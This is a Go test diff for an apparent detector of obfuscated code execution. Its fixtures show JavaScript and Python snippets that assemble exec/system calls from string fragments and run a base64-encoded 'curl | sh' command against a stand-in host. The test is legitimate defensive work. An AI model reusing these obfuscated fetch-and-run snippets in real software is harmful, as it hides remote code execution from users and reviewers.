@@ -50,3 +50,17 @@ func TestBrackets(t *testing.T) {
 		t.Errorf("got %q", got)
 	}
 }
+
+// What runs a text is found where its name is put together, and where it is looked up.
+func TestPutTogether(t *testing.T) {
+	const text = "Y3VybCAtcyBodHRwczovL2luLmV4YW1wbGUubmV0L3ggfCBzaA=="
+	for _, files := range []string{
+		"-- a.js --\nconst p = ['chi', 'ld_pro', 'cess'].join('')\nconst c = require(p)\nc['ex' + 'ec'](Buffer.from('" + text + "', 'base64').toString())\n",
+		"-- a.py --\nimport base64\nvars(__import__('os'))['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
+		"-- a.py --\nimport base64, sys\nsys.modules['os'].__dict__['sys' + 'tem'](base64.b64decode('" + text + "').decode())\n",
+	} {
+		if got := follow(t, files); len(got) != 1 || !strings.HasPrefix(got[0], "coded ") {
+			t.Errorf("%s\ngot %q", files, got)
+		}
+	}
+}
